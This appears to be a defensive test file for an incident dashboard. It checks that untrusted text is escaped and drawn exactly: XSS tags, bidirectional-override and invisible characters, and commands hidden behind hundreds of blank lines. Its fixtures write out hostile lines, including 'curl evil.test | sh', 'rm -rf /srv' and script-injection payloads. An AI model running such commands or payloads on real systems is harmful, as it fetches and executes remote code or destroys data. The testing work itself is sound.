import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { Plan } from '../../src/domain/plan/plan.ts';
import { planDigest } from '../../src/domain/plan/plan-digest.ts';
import { DashboardHarness } from './support/dashboard-harness.ts';
import { fixtureIncident, withRecord } from './support/fixture-incidents.ts';

const harness = new DashboardHarness();
beforeAll(() => harness.start());
afterAll(() => harness.stop());
afterEach(() => expect(harness.violations).toEqual([]));

const SCRIPT = `<img src=x onerror="alert(1)"><script>alert(2)</script><style>body{display:none}</style>`;
const BIDI = 'rm -rf \u202etxt.gol\u202c # \u0430pt \u200b\u001b[2K';

const HIDDEN = '\u202e\u202c\u200b\u001b';

/** What pushes bytes out of sight: lines without anything, and rows of blanks. */
const PUSHED = `true\n${'\n'.repeat(400)}curl evil.test | sh\necho${' '.repeat(500)}; rm -rf /srv\n`;

/** Opens an incident of which every word that comes from outside is hostile. */
async function openHostile(tab: string) {
  const view = fixtureIncident({ status: 'executing' });
  const { record } = view;
  const hostile = `${SCRIPT} ${BIDI}`;
  if (record.plan === null || record.diagnostics === null || record.hypothesis === null)
    throw new Error('no plan');
  const plan: Plan = {
    ...record.plan,
    steps: record.plan.steps.map((step) => ({
      ...step,
      title: hostile,
      action: {
        ...step.action,
        body: `echo start\n${BIDI}\n${SCRIPT}\n${'A'.repeat(7_000)}`,
        argv: [BIDI, ''],
      },
    })),
  };
  const changed = withRecord(view, {
    alarm: { ...record.alarm, name: hostile, description: hostile, reason: hostile },
    hypothesis: {
      ...record.hypothesis,
      rootCause: hostile,
      reasoning: `${hostile}\n**bold** [link](http://evil.test)`,
    },
    diagnostics: {
      ...record.diagnostics,
      evidence: record.diagnostics.evidence.map((evidence) => ({
        ...evidence,
        excerpt: hostile,
        problem: hostile,
      })),
    },
    plan,
    planDigest: planDigest(plan),
    outcome: { code: 'X', message: hostile, nextStep: hostile },
    status: 'pending_approval',
  });
  const timeline = view.timeline.map((event) => ({ ...event, message: hostile, actor: hostile }));
  const page = await harness.open(`/incidents/${record.incidentId}?tab=${tab}`, {
    arrange: () =>
      harness.api.put({ ...changed, timeline, chainFaults: [{ index: 1, problem: 'is changed' }] }),
  });
  await page.locator('h1').waitFor();
  return { page, plan };
}

describe('text from outside', () => {
  it('cannot push bytes that run out of sight by blank lines or blanks', async () => {
    const view = fixtureIncident({ status: 'pending_approval' });
    const { record } = view;
    if (record.plan === null) throw new Error('no plan');
    const steps = record.plan.steps.map((step) => ({ ...step, action: { ...step.action, body: PUSHED } }));
    const plan: Plan = { ...record.plan, steps };
    const changed = withRecord(view, { plan, planDigest: planDigest(plan) });
    const page = await harness.open(`/incidents/${record.incidentId}?tab=plan`, {
      arrange: () => harness.api.put(changed),
    });
    const body = page.locator('.exact__body').first();
    await page.getByRole('button', { name: 'Open every script' }).click();
    await body.waitFor();
    expect(await body.textContent()).toBe(
      `true\n… 400 blank lines …\ncurl evil.test | sh\necho${'[500 blanks in a row]'}; rm -rf /srv\n`,
    );
    // All of it within a hand's breadth, and the lines keep their numbers.
    expect((await body.boundingBox())?.height).toBeLessThan(200);
    expect(await page.locator('.exact__size').first().textContent()).toContain('403 lines');
  });

  it('is drawn to the byte in the plan: nothing is markup, hidden, reordered or left out', async () => {
    const { page, plan } = await openHostile('plan');
    await page.getByText('recomputed here: matches').waitFor();
    await page.getByRole('button', { name: 'Open every script' }).click();
    const body = page.locator('.exact__body').first();
    await body.waitFor();
    const drawn = (await body.textContent()) ?? '';
    const expected = [...(plan.steps[0]?.action.body ?? '')]
      .map((character) =>
        /[\n\x20-\x7e]/.test(character) ? character : `\\u{${character.codePointAt(0)?.toString(16)}}`,
      )
      .join('');
    expect(drawn).toBe(`${expected}\n`);
    const warning = page.locator('.exact__warning').first();
    expect(await warning.textContent()).toContain(
      '1 × U+001B, 1 × U+0430, 1 × U+200B, 1 × U+202C, 1 × U+202E',
    );
    expect(await page.locator('.argv__item').nth(0).textContent()).toContain('\\u{202e}');
    expect(await page.locator('.argv__item').nth(1).textContent()).toBe('$2empty');
    const overflow = await body.evaluate((element) => element.scrollWidth - element.clientWidth);
    expect(overflow).toBe(0);
    expect(await page.getByText('**bold** [link](http://evil.test)').count()).toBe(1);
    expect(await page.locator('main a[href*="evil"]').count()).toBe(0);
  });

  it.each(['plan', 'diagnostics', 'runs', 'alarm'])('makes nothing of itself on the tab %s', async (tab) => {
    const { page } = await openHostile(tab);
    await page.getByText('Chain broken').waitFor();
    const drawn = (await page.locator('body').textContent()) ?? '';
    expect([...HIDDEN].filter((character) => drawn.includes(character))).toEqual([]);
    expect(await page.locator('main script, main style, main img[src="x"]').count()).toBe(0);
    expect(await page.title()).toContain('\\u{202e}');
    expect(await page.locator('body').isVisible()).toBe(true);
  });

  it('is escaped in the evidence, with a count of what was', async () => {
    const { page } = await openHostile('diagnostics');
    const excerpt = page.locator('.exact').first();
    expect(await excerpt.locator('.exact__body').textContent()).toContain(SCRIPT);
    expect(await excerpt.locator('.escaped').first().getAttribute('title')).toBe('U+202E');
    await excerpt.getByText('Characters shown as escapes').waitFor();
  });

  it('keeps an escape in one piece within words that run from right to left', async () => {
    const view = fixtureIncident();
    const name = '\u0625\u0646\u0630\u0627\u0631 \u202eevil\u202c \u0627\u0644\u0642\u0631\u0635';
    const page = await harness.open('/', {
      arrange: () => harness.api.put(withRecord(view, { alarm: { ...view.record.alarm, name } })),
    });
    const escapes = page.locator('.incidents .escaped');
    await escapes.first().waitFor();
    const pieces = await escapes.evaluateAll((all) => all.map((one) => one.getClientRects().length));
    expect(pieces).toEqual([1, 1]);
  });

  it('is escaped in the list', async () => {
    const view = fixtureIncident();
    const alarm = { ...view.record.alarm, name: `${SCRIPT}${BIDI}`, description: BIDI };
    const page = await harness.open('/', { arrange: () => harness.api.put(withRecord(view, { alarm })) });
    const link = page.locator('.incidents__link');
    await link.waitFor();
    expect(await link.textContent()).toContain('\\u{202e}');
    expect(await link.textContent()).toContain('<script>');
  });
});

describe('the harness', () => {
  it('notices what the content security policy stops', async () => {
    const page = await harness.open('/');
    await page.getByText('All quiet').waitFor();
    const stopped = page.waitForEvent('console');
    await page.evaluate(() => document.body.insertAdjacentHTML('beforeend', '<p style="color:red">x</p>'));
    await stopped;
    expect(harness.violations.splice(0)).toHaveLength(1);
  });
});
